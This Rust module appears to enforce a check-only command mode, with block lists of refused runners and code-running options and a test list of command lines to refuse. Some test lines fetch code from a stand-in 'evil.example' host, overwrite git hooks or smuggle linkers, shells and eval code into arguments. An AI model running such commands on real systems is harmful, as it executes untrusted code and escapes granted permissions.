//! The additional condition of `--only-checks`: a call runs the project's check and no code of the caller.
//!
//! The line is drawn at the command line. A check runs the project's code and settings (scripts, Makefile, plugins,
//! `conftest.py`): whoever may write those needs no `--only-checks`. Its words must not bring code of their own: text
//! that is executed (`--eval`, `-e`), a program or plugin that is named (`-wrapper`, `-exec`, `--script-shell`), a
//! variable, a file of arguments, a package besides the check's, or a file outside of the project or in its `.git`.
//! Options of runners are listed here; those that are not are refused. A tool has too many of them for that: of its
//! options the dangerous ones are listed.

use super::arguments::{WordPositions, is_assignment, is_option, matches_pattern};
use super::encode::{PACKAGES, TOOL_ANYWHERE, TOOL_INTERPRETER};
use super::program::{base_name, lossy_text, package_name};
use super::recognise::CheckSearch;
use super::table::{RunnerRule, ToolRule};
use crate::base::bytes;

/// Where systems keep their programs: a path there is the program of that name.
const SYSTEM_FOLDERS: [&str; 8] = [
    "/bin/",
    "/sbin/",
    "/usr/bin/",
    "/usr/sbin/",
    "/usr/local/bin/",
    "/opt/homebrew/bin/",
    "/usr/lib/jvm/",
    "/nix/store/",
];
/// Where package managers put the programs of a project's dependencies.
const DEPENDENCY_FOLDERS: [&str; 4] = ["node_modules/", "vendor/bin/", ".venv/bin/", "venv/bin/"];
/// Programs that are made to lie in the project.
const PROJECT_PROGRAMS: [&str; 2] = ["gradlew", "mvnw"];

/// Runners that run as another user, elsewhere, or something that is not in the command line.
const REFUSED_RUNNERS: &str = " sudo gosu run0 xargs parallel flock script wsl mpi wait-for dockerize bazel-run su chroot cargo-alias nimble-task swift-run cask-exec mono java wp-env gitlab-runner cargo-workspaces \
    fd debuggers rr busybox sg limits bwrap instances apptainer changed-roots hosted hosted-shell python-profilers \
    memray py-spy nix-develop-of find watchexec entr cargo-watch cargo-watch-command nodemon chokidar reflex pytest-watch watch eval git-bisect \
    git-rebase git-foreach git-hook faketime unshare proot toolbox distrobox lima envchain rvm nix-run phpdbg runuser ";
/// Runners and their own options that only say how much, how long, how loud, or which part of the project.
const RUNNER_OPTIONS: [(&str, &str); 44] = [
    ("command", "-p"),
    ("time", "-p"),
    ("nice", "-n --adjustment -c --class"),
    ("timeout", "-s --signal -k --kill-after --preserve-status --foreground -v --verbose"),
    ("stdbuf", "-i -o -e -oL -eL -o0 -e0 --output --error --input"),
    ("mise", "-C --cd -q --quiet"),
    ("mise-run", "-C --cd -j -q --quiet"),
    ("conda", "-n --name --no-capture-output --live-stream"),
    ("pixi", "-e --environment --frozen --locked"),
    ("npx", "-w --workspace -y --yes --no --no-install --offline -q --quiet --prefer-offline"),
    ("npm-exec", "-w --workspace -y --yes --no --no-install --offline -q --quiet --prefer-offline"),
    ("npm-run", "-w --workspace --workspaces -ws -s --silent --if-present --loglevel --prefix -C"),
    ("npm-test", "-w --workspace --workspaces -ws -s --silent --if-present --loglevel --prefix -C"),
    ("pnpm-exec", "-r --recursive --filter -F -s --silent -C --dir --parallel"),
    (
        "pnpm-run",
        "-r --recursive --filter -F -s --silent -C --dir --parallel --stream --no-bail --sort --if-present \
         --workspace-concurrency -w",
    ),
    ("pnpm-test", "-r --recursive --filter -F -s --silent -C --dir --workspace-concurrency -w"),
    ("yarn-exec", "-s --silent -q --quiet --cwd"),
    ("yarn-run", "-s --silent -j --include --exclude --from -A --all -p --parallel -v -t -i --cwd -T --top-level"),
    ("yarn-workspace", "-s --silent --cwd"),
    ("bunx", "--bun --silent"),
    ("bun-x", "--bun --silent"),
    ("bun-run", "--bun --silent --filter --cwd"),
    ("deno-task", "-q --quiet --filter -f --cwd"),
    ("deno-run", "-A --allow-all --allow-read --allow-env --allow-sys -q --quiet"),
    (
        "turbo",
        "--filter -F --concurrency --output-logs --log-order --force --no-cache --continue --only --affected --ui \
         --no-daemon --cwd",
    ),
    (
        "nx",
        "-t --target --targets -p --projects --base --head --parallel --skip-nx-cache --all --exclude -c \
         --configuration --verbose --nxBail --output-style --outputStyle",
    ),
    ("monorepo", "--scope --since --concurrency --stream --no-bail --parallel --to --from"),
    ("moon", "--affected --force --concurrency"),
    ("rush", "--to --from -t -o --parallelism --verbose -v"),
    ("python", "-m -W -X -B -I -s -S -E -u -O -OO -b -bb"),
    (
        "uv-run",
        "-m --module --package --frozen --locked --no-sync --offline --extra --group --all-extras --all-groups \
         --directory --project --dev --no-dev -q --quiet --python -p",
    ),
    ("uvx", "--python -p -q --quiet --offline"),
    ("uv-tool", "--python -p -q --quiet --offline"),
    ("poetry", "-C --directory -P --project -n --no-interaction -q --quiet"),
    ("poe", "-C --directory -q"),
    ("pdm", "-p --project"),
    ("hatch", "-e --env -q --quiet"),
    ("composer-exec", "-d --working-dir -n --no-interaction -q --quiet"),
    ("composer-run", "-d --working-dir -n --no-interaction -q --quiet --timeout"),
    ("ruby", "-W -w -S"),
    ("make-target", "-j --jobs -k --keep-going -s --silent -C --directory -B --no-print-directory -O -w -f --file"),
    ("just", "-d --working-directory -q --quiet -f --justfile"),
    ("task", "-d --dir -s --silent -v -p --parallel -t --taskfile"),
    ("ninja-target", "-j -k -l -C -v"),
];

/// Parts of an option's name that say that its value is run, or decides what is.
const RUNNING_WORDS: &str = " eval exec execute command cmd shell script wrapper specs launcher hook hooks linker \
    toolexec vettool javaagent agentlib agentpath iplugindir pluginpath prepend extld ";
/// The same for names without their separators.
const RUNNING_NAMES: &str = " nodeoption nodeoptions nodearg nodeargs nodearguments execargv rununder browserargs \
    tx px basetemp overrideini ";
/// What an option, or the value of one, has in it that does.
const RUNNING_TEXTS: [&str; 4] = ["-extld", "linker=", "-fplugin", "-wrapper"];
/// What an option begins with that names a program or plugin to a compiler.
const RUNNING_STARTS: [&str; 9] =
    ["-fplugin", "-fpass-plugin", "-fuse-ld", "-specs", "--specs", "-B", "-Xclang", "-load", "-wrapper"];
/// Programs and options of such runners, by their first letters, that do it although their names don't suggest it.
const RUNNING_OPTIONS: [(&str, &str); 14] = [
    ("make", "-E"),
    ("gmake", "-E"),
    ("git", "-c --config --exec-path --ext-diff --textconv --git-dir --work-tree --output --no-index -O"),
    ("cargo", "--config -Z"),
    ("tox", "-x --override"),
    ("ctest", "-S -D -M -T --build"),
    ("cmake", "-D -P -C -E"),
    ("mvn", "-D -s -gs -f --settings"),
    ("mvnw", "-D -s -gs -f --settings"),
    ("gradle", "-D -P -I -c"),
    ("gradlew", "-D -P -I -c"),
    ("dotnet", "-p: --property -t: --target /"),
    ("javac", "-J -processor -A"),
    ("nox", "-f --noxfile"),
];
/// Properties that only choose tests.
const TEST_PROPERTIES: [&str; 6] = ["-Dtest=", "-Dit.test=", "-DskipTests", "-DskipITs", "-Dgroups=", "-DfailIfNo"];
/// Tools of which any option is refused: some of them name code, and they have not all been reviewed.
const OPTIONS_REFUSED: &str = " embedded-tests matlab-tests ghc provers protoc d-compilers asciidoctor static-sites graphql-codegen \
    stylesheets eask emcc ocaml-compilers esy rustc swiftc pony ada-compilers pascal-compilers cobc vala \
    kotlinc-native slipcover act kubectl-dry-run cdk sam zephyr schemathesis mutation-tests snakemake snakefmt \
    chromatic breeze xmake boost-build dub racket cairo anchor move maturin cargo-mutants cargo-insta \
    cargo-extras cross rescript rolldown rslib rstest react-router lab vite-plus flow tla dafny c3 hare nargo aiken \
    tuist herb alembic flask-test prek code-metrics template-linters just-default scons-default plz \
    type-coverage drizzle-kit prisma haproxy caddy templ ast-grep green lock-check uv-check \
    bun-build deno-builds nim-run-tests julia-docs julia-lint lintr styler R-builds R-CMD-build compose-up rufo \
    ruby-linters bundle-audit gem-build ruby-tests javascript-linters javascript-checkers javascript-builds \
    javascript-build-commands babel javascript-tests javascript-test-commands text-linters config-linters \
    python-linters more-formatters commit-linters api-diffs openapi-linters license-checks security-scanners ci- \
    config ansible-test sql-tests hardware hardware-tests slang tex-checks more-tex doc-builds doc-build- \
    commands c-linters more-compilers packagers go-more go-tests php-more php-console php-tests python-tests \
    python-module-django robocop shell-tests kcov make-checkers brew nx-format rush-change ghc-more haskell- \
    tests elixir-erlang-more erlang-mk openscad lua-checkers luarocks perl-more github-super-linter container- \
    tests cargo-more npm-more dotnet-more dotnet-subs swift-more amper scalafix clojure-tests shadow-cljs \
    javascript-framework-tests salesforce more-test-runners ceedling wordpress drupal-check istanbul older- \
    javascript-tests native-addons minifiers default-tasks default-targets cabal-setup python-package-tests \
    conda-build cpanm-test devenv julia-test Rscript emacs-batch emacs-lint editor-tests vim-vader young-languages dart-older dotnet-run-tests \
    more-linters typescript-kits wasm-compilers earthly-targets \
    pipenv-check cargo-test-build go-test-build git-clang-format gn tup splint quartus mbed UV4 iarbuild arduino-lint \
    qmk esphome ros catkin_make rostest ament java-test-launchers bloop npm-groovy-lint symfony-security tapioca \
    importmap swift-api dart-lints patrol adb-instrument dialyzer ct_run boot clojure-lsp perl-cover podchecker \
    raku-syntax lisp-tests logtalk_tester rdmd dscanner gnat-checks fortitude solidity-fuzzers medusa-fuzz \
    solidity-analyzers clarinet kyverno cluster-linters skaffold jsonnet-lint bicep az aws-validate nomad \
    terraform-docs-check vagrant-validate cloud-init sqlc data-tests csv-linters csvclean frictionless doctoc \
    lessc-lint swagger rover relay-validate tsp smithy tsp-check autopkgtest makepkg package-linters snapcraft \
    mock ebuild pkgcheck macports nix-checks nixos-rebuild nixpkgs-review nix-unit guix-build devenv-test godot-check \
    godot-export unreal-tests renpy expo-doctor react-native heft electron-builder vscode-test mbake-validate \
    qodana trunk-fmt zap system-tests tmt wire hack hack-tests hhast-lint p4c wasm-validate wat2wasm cyan \
    semgrep-rules semgrep-scan circleci-local tilt-ci just-fmt matlab-checks air-format \
    rustdoc-test b2-default ruby-require-tests rome storybook-build axe cfn-guard serverless kubectl-kuttl-test vector envoy postfix \
    dive mimirtool fluent-bit crontab-check elixirc xctest ";
/// Programs with a rule of the compilers' above: `-B` and the like mean something else to others.
const COMPILERS: &str = " gcc g++ cc c++ gfortran clang clang++ clang-tidy rustc ";
/// Programs to which `//name` is a part of the project.
const LABELLED: &str = " bazel bazelisk blaze buck buck2 pants ";
/// Programs that read arguments from `@FILE`; to others `@scope/name` is a package.
const FILE_READERS: &str = " gcc g++ cc c++ gfortran clang clang++ clang-tidy rustc javac kotlinc scalac swiftc csc \
    dotnet pytest py.test mypy pylint ghc flake8 ";

impl CheckSearch<'_> {
    /// Remembers what a call brings along that isn't the project's.
    fn note_foreign(&mut self, argument: &[u8]) {
        if self.foreign.is_none() {
            self.foreign = Some(lossy_text(argument));
        }
    }

    /// A program that is called by a path has to be the one that its name promises.
    pub(super) fn confine_program(&mut self, path: &[u8], by_path: bool) {
        if self.is_strict && !by_path && !is_known_place(path) {
            self.note_foreign(path);
        }
    }

    /// A program that only a variable names.
    pub(super) fn confine_variable(&mut self, path: &[u8]) {
        if self.is_strict {
            self.note_foreign(path);
        }
    }

    /// A file that an interpreter is given instead of a program. Where another command says which, that runs as well.
    pub(super) fn confine_file(&mut self, file: &[u8]) {
        self.beside |= file.starts_with(b"$(") || file.starts_with(b"`");
        if self.is_strict && !(file.contains(&b'/') && is_known_place(file)) && !is_among(&PROJECT_PROGRAMS, file) {
            self.note_foreign(file);
        }
    }

    /// A runner's own arguments: all that come before what it runs.
    pub(super) fn confine_runner(&mut self, runner: &RunnerRule<'_>, own: &[&[u8]]) {
        if !self.is_strict {
            return;
        }
        if has_word(REFUSED_RUNNERS, runner.name.as_bytes()) {
            self.note_foreign(runner.name.as_bytes());
        }
        let known = RUNNER_OPTIONS.iter().find(|(name, _)| *name == runner.name).map_or("", |(_, options)| options);
        for argument in own {
            if **argument == *b"--" {
                break;
            }
            let option = argument.split(|byte| *byte == b'=').next().unwrap_or_default();
            let is_known = has_word(known, option) || is_amount(known, argument);
            let is_run = is_option(argument) && !is_known && !runner.select_flags.contains(argument);
            if is_run || self.is_outside_project(argument) || **argument == *b"-" {
                self.note_foreign(argument);
            }
        }
    }

    /// A package besides the one that its name promises: an alias, an address, a folder.
    pub(super) fn confine_package(&mut self, runner: &RunnerRule<'_>, word: &[u8]) {
        let word = word.strip_prefix(b"npm:").unwrap_or(word);
        let version = word.get(package_name(word).len()..).unwrap_or_default();
        let is_plain = |byte: &u8| byte.is_ascii_alphanumeric() || b".-_^~*=<>!,[]+@".contains(byte);
        if self.is_strict && runner.flags & PACKAGES != 0 && !version.iter().all(is_plain) {
            self.note_foreign(word);
        }
    }

    /// The arguments of a check.
    pub(super) fn confine_tool(&mut self, tool: &ToolRule<'_>, base: &[u8], arguments: &[&[u8]]) {
        if !self.is_strict {
            return;
        }
        if has_word(OPTIONS_REFUSED, tool.name.as_bytes())
            && let Some(option) = arguments.iter().find(|argument| is_option(argument))
        {
            self.note_foreign(option);
        }
        if tool.flags & TOOL_INTERPRETER != 0 {
            let options = WordPositions { arguments, value_options: &[], at: 0 }.next().unwrap_or(arguments.len());
            let is_own = |option: &[u8]| tool.need.contains(option) || tool.ignore.contains(option) || option == b"--";
            if let Some(argument) = arguments[..options].iter().find(|argument| !is_own(argument)) {
                self.note_foreign(argument);
            }
        }
        if tool.flags & TOOL_ANYWHERE != 0 {
            let lists = [tool.value_options, tool.dir_options];
            for place in (WordPositions { arguments, value_options: &lists, at: 0 }) {
                let is_after_option =
                    place > 0 && is_option(arguments[place - 1]) && !arguments[place - 1].contains(&b'=');
                let task = arguments[place].rsplit(|byte| *byte == b':').next().unwrap_or_default();
                let mut sub = tool.sub;
                if !is_after_option && !sub.any(|known| known == arguments[place] || known == task) {
                    self.note_foreign(arguments[place]);
                }
            }
            // `+publish` of sbt is a task as well.
            if let Some(task) = arguments.iter().find(|argument| argument.starts_with(b"+")) {
                self.note_foreign(task);
            }
        }
        self.confine_arguments(base, arguments);
    }

    /// Arguments of a check or a script.
    pub(super) fn confine_arguments(&mut self, base: &[u8], arguments: &[&[u8]]) {
        if !self.is_strict {
            return;
        }
        for (place, argument) in arguments.iter().enumerate() {
            let is_value = place > 0 && is_option(arguments[place - 1]);
            let is_variable = is_assignment(argument) && !is_value;
            let is_arguments_file = has_word(FILE_READERS, base) && argument.starts_with(b"@")
                || [&b"@/"[..], b"@.", b"@~"].iter().any(|start| argument.starts_with(start));
            let is_run = is_option(argument) && is_running_option(base, argument)
                || RUNNING_TEXTS.iter().any(|text| bytes::find(argument, text.as_bytes()).is_some());
            let is_label = has_word(LABELLED, base) && argument.starts_with(b"//");
            if is_variable || is_arguments_file || is_run || !is_label && self.is_outside_project(argument) {
                self.note_foreign(argument);
            }
        }
    }

    /// Whether it names a file outside of the project, in its `.git`, or an address.
    fn is_outside_project(&self, argument: &[u8]) -> bool {
        if bytes::find(argument, b"://").is_some() || bytes::find(argument, b"data:").is_some() {
            return true;
        }
        let root = self.whitelist.project_root();
        let inside = |path: &[u8]| {
            root.is_some_and(|root| path.strip_prefix(root).is_some_and(|rest| rest.is_empty() || rest[0] == b'/'))
        };
        let is_outside = |piece: &[u8]| {
            let steps = || piece.split(|byte| *byte == b'/');
            let climbs = steps().any(|step| step == b".." || step.eq_ignore_ascii_case(b".git"));
            let is_sink = matches!(piece, b"/dev/null" | b"/dev/stdout" | b"/dev/stderr");
            climbs || piece.starts_with(b"~") || piece.starts_with(b"/") && !inside(piece) && !is_sink
        };
        let separates = |byte: &u8| matches!(byte, b'=' | b',' | b':' | b' ' | b'\t' | b'@' | b'|' | b'"' | b'\'');
        let attached = argument.strip_prefix(b"-").filter(|rest| rest.len() > 1 && rest[0].is_ascii_alphabetic());
        argument.split(separates).chain(attached.map(|rest| &rest[1..])).any(is_outside)
    }
}

/// Whether an option, by its name, makes a check run something.
fn is_running_option(base: &[u8], argument: &[u8]) -> bool {
    let name = argument.split(|byte| *byte == b'=').next().unwrap_or_default();
    let begins = |starts: &[&str]| starts.iter().any(|start| argument.starts_with(start.as_bytes()));
    let bare: Vec<u8> = name.iter().filter(|byte| byte.is_ascii_alphanumeric()).map(u8::to_ascii_lowercase).collect();
    let own = RUNNING_OPTIONS.iter().filter(|(program, _)| program.as_bytes() == base);
    let is_own = own.flat_map(|(_, options)| options.split_ascii_whitespace()).any(|option| {
        // A short option may have its value attached.
        match option.len() {
            2 => argument.starts_with(option.as_bytes()) && !argument.starts_with(b"--"),
            _ => argument.starts_with(option.as_bytes()),
        }
    });
    let is_compiler = has_word(COMPILERS, base);
    is_own && !begins(&TEST_PROPERTIES)
        || is_compiler && begins(&RUNNING_STARTS)
        || option_words(name).iter().any(|part| has_word(RUNNING_WORDS, part))
        || has_word(RUNNING_NAMES, &bare)
}

/// The words of an option's name, small: `--script-shell`, `--scriptShell`, `-pool.exec_argv`.
fn option_words(name: &[u8]) -> Vec<Vec<u8>> {
    let mut parts = vec![Vec::new()];
    let mut was_small = false;
    for &byte in name {
        if !byte.is_ascii_alphanumeric() || byte.is_ascii_uppercase() && was_small {
            parts.push(Vec::new());
        }
        was_small = byte.is_ascii_lowercase();
        if byte.is_ascii_alphanumeric()
            && let Some(last) = parts.last_mut()
        {
            last.push(byte.to_ascii_lowercase());
        }
    }
    parts
}

/// `-j8`, `-n5`, `-k5`, where the option is among `known`.
fn is_amount(known: &str, argument: &[u8]) -> bool {
    let Some((option, value)) = argument.split_at_checked(2) else { return false };
    has_word(known, option) && !value.is_empty() && value.iter().all(u8::is_ascii_digit)
}

/// Whether what is at this path is what its name says: a program of the system, or one that belongs to the project.
fn is_known_place(path: &[u8]) -> bool {
    if !path.contains(&b'/') {
        return true;
    }
    let has_steps_up = path.split(|byte| *byte == b'/').any(|step| step == b"..");
    let in_system = SYSTEM_FOLDERS.iter().any(|folder| path.starts_with(folder.as_bytes()));
    let in_dependencies = DEPENDENCY_FOLDERS
        .iter()
        .any(|folder| bytes::find(path, folder.as_bytes()).is_some_and(|at| at == 0 || path[at - 1] == b'/'));
    !has_steps_up && (in_system || !path.starts_with(b"/") && in_dependencies || is_among(&PROJECT_PROGRAMS, path))
}

fn is_among(names: &[&str], path: &[u8]) -> bool {
    names.iter().any(|name| matches_pattern(base_name(path), name.as_bytes()))
}

fn has_word(list: &str, word: &[u8]) -> bool {
    list.split_ascii_whitespace().any(|item| item.as_bytes() == word)
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use crate::whitelist::Whitelist;

    fn refused(line: &str) -> Option<String> {
        let words = shell_words::split(line).expect("words");
        let argv: Vec<&[u8]> = words.iter().map(String::as_bytes).collect();
        let whitelist = Whitelist::shipped_only();
        let owned: Vec<std::ffi::OsString> = words.iter().map(Into::into).collect();
        let is_alone = whitelist.decide_command(&owned).into_check().is_some_and(|check| check.alone);
        if !is_alone {
            return Some("not alone".to_owned());
        }
        whitelist.ensure_confined(&argv, Path::new("/srv/app")).err()
    }

    const FOREIGN: &[&str] = &[
        "$PYTHON -m pytest",
        "${PREFIX}eslint .",
        "{envpython} -m pytest",
        "%PYTHON% -m pytest",
        "timeout 60 $NPM test",
        "env $CARGO test",
        "sbt test +publish",
        "sbt 'test;publish'",
        "./ci.sh lint",
        "python -c 'import os, app; os.system(1); app.test()'",
        "julia -e 'run(`x`); Pkg.test()'",
        "Rscript -e 'system(1); devtools::test()'",
        "docker run example/shellcheck a.sh",
        "wait-for-it db:5432 -- npm test",
        "node test/index.js",
        "typedoc --plugin ./x",
        "kcov --x eslint .",
        "cmake --build . --target test -- SHELL=/tmp/sh",
        "bazel run //app:unit_test",
        "dart run test/a_test.dart",
        "docker compose run --rm lint",
        "find . -execdir npm test ;",
        "find . -name a.sh -exec shellcheck {} +",
        "eval npm test",
        "watch npm test",
        "watchexec -- npm test",
        "entr -c npm test",
        "cargo watch -x test",
        "nodemon --exec 'npm test'",
        "nodemon --exec npm test",
        "reflex -- npm test",
        "chokidar a -c 'npm test'",
        "ptw",
        "git bisect run npm test",
        "git rebase --exec 'npm test' main",
        "git rebase --exec='npm test' main",
        "git submodule foreach npm test",
        "git hook run pre-commit",
        "su - build -c 'npm test'",
        "faketime 2020-01-01 npm test",
        "unshare -n npm test",
        "toolbox run npm test",
        "lima npm test",
        "rvm 3.2 do rake test",
        "nix develop .#a --command npm test",
        "nix run .#lint",
        "fd -e sh -x shellcheck",
        "gdb -batch -ex run --args ctest",
        "busybox npm test",
        "apptainer exec a.sif npm test",
        "java -jar checkstyle.jar a",
        "java org.junit.runner.JUnitCore ATest",
        "phpdbg -qrr vendor/bin/phpunit",
        "make --eval=x test",
        "make test --eval=x",
        "make -E x test",
        "make test -E x",
        "make test SHELL=/tmp/sh",
        "make SHELL=/tmp/sh",
        "make -f /tmp/Makefile test",
        "make -f - test",
        "make -C .. test",
        "gcc -wrapper sh,-c,x -c a.c",
        "gcc -fplugin=./x.so a.c",
        "gcc -specs=./x a.c",
        "gcc -B./x a.c",
        "gcc @arguments",
        "gcc a.c -o .git/hooks/pre-commit",
        "clang -Xclang -load -Xclang ./x.so a.c",
        "perl -c -e 'BEGIN{system 1}'",
        "perl -c -Mevil x.pl",
        "ruby -c -r./x a.rb",
        "node --check --require ./x a.js",
        "php -l -d auto_prepend_file=x a.php",
        "strace -o x npm test",
        "time -o x npm test",
        "time -po x npm test",
        "./npm test",
        "sub/eslint .",
        "/tmp/eslint .",
        "bash npm test",
        "node eslint .",
        "python eslint.py",
        "source npm test",
        "vagrant ssh -c 'npm test'",
        "find . -exec eslint {} +",
        "git -c core.pager=x diff --check",
        "git diff --check --ext-diff",
        "npx -p evil eslint",
        "npx eslint@npm:evil",
        "npx eslint@https://evil.example/x.tgz",
        "npx eslint@file:../x",
        "npm test --script-shell=./x",
        "npm --script-shell ./x test",
        "npm run lint --node-options=--require=./x",
        "npm test --prefix /tmp/x",
        "uvx --from evil ruff check",
        "uv run --with evil pytest",
        "env -S 'npm test'",
        "env PATH=. npm test",
        "xargs eslint",
        "sudo npm test",
        "cargo test --config 'target.x.runner=\"sh\"'",
        "cargo clippy -- -C linker=./x",
        "cargo test --manifest-path /tmp/Cargo.toml",
        "go test -exec ./x ./...",
        "go vet -vettool=./x",
        "go build -toolexec ./x",
        "go test -ldflags=-extld=./x",
        "pytest --rootdir=/tmp/x",
        "pytest -c /tmp/pytest.ini",
        "pytest -o pythonpath=/tmp",
        "pytest --basetemp=.",
        "pytest ../other",
        "pytest ~/x",
        "pylint --init-hook=x src",
        "tox -x testenv.commands=sh",
        "mvn test -Dexec.executable=sh",
        "mvn test exec:exec",
        "gradle test --init-script x.gradle",
        "gradle test deploy",
        "bazel test --run_under=./x //...",
        "ctest -S x.cmake",
        "deno test https://evil.example/x.ts",
        "swipl -g 'shell(x),run_tests' -t halt",
        "octave --eval 'system(1), runtests'",
        "emacs --batch --eval '(x)' -f ert-run-tests-batch",
        "ghc -F -pgmF ./x A.hs",
        "cdk synth --app ./x",
        "kubectl apply --dry-run=client --kubeconfig x",
        "./run-tests.sh",
        "bash ci/lint.sh",
        "ruby -Itest test/a_test.rb",
        "./x test",
        "rtk --x cargo test",
        "vitest run --poolOptions.forks.execArgv=--require=./x",
    ];

    #[test]
    fn what_brings_code_of_its_own_is_refused() {
        let through: Vec<_> = FOREIGN.iter().filter(|line| refused(line).is_none()).collect();
        assert!(through.is_empty(), "{through:#?}");
    }

    #[test]
    fn what_people_type_runs() {
        let lines = [
            "npm test",
            "npm test -- --coverage src/a.test.ts",
            "npm run lint --silent",
            "npm run test:unit -w packages/a",
            "npx eslint src --max-warnings 0 --ext .ts,.tsx",
            "npx -y prettier@3 --check .",
            "npx tsc --noEmit -p tsconfig.json",
            "./node_modules/.bin/eslint .",
            "/usr/bin/npm test",
            "pnpm --filter @scope/app test",
            "pnpm lint",
            "yarn workspace app test",
            "vitest run src/a.test.ts -t 'adds a number'",
            "jest --runInBand --testPathPattern=src/a",
            "pytest -x -q tests/test_a.py::TestB::test_c -k 'not slow'",
            "pytest -p no:cacheprovider --tb=short",
            "pytest /srv/app/tests",
            "python -m pytest -vv tests",
            ".venv/bin/pytest",
            "uv run pytest -q",
            "poetry run mypy src",
            "ruff check . --fix",
            "mypy --strict src",
            "cargo test --workspace --all-features -- --nocapture",
            "cargo nextest run -E 'test(name)'",
            "cargo clippy --all-targets -- -D warnings",
            "cargo fmt --check",
            "go test ./... -run 'TestX/sub' -count=1",
            "go vet ./...",
            "golangci-lint run ./...",
            "make test",
            "make -j4 check",
            "make -C sub lint",
            "just test",
            "./gradlew test --tests com.example.ATest",
            "./gradlew :app:test",
            "./mvnw -q test -Dtest=ATest",
            "dotnet test --filter Name~A",
            "gcc -Wall -Wextra -Iinclude -DA=1 -c a.c -o build/a.o",
            "perl -c a.pl",
            "ruby -wc a.rb",
            "bash -n a.sh",
            "php -l a.php",
            "git diff --check",
            "timeout 60 npm test",
            "timeout -k 5 60 cargo test",
            "nice -n 10 make test",
            "time npm test",
            "bundle exec rspec spec/a_spec.rb:12",
            "turbo run test --filter=app",
            "shellcheck a.sh",
            "bazel test //app:all",
        ];
        let refused: Vec<_> = lines.iter().filter_map(|line| Some((line, refused(line)?))).collect();
        assert!(refused.is_empty(), "{refused:#?}");
    }
}
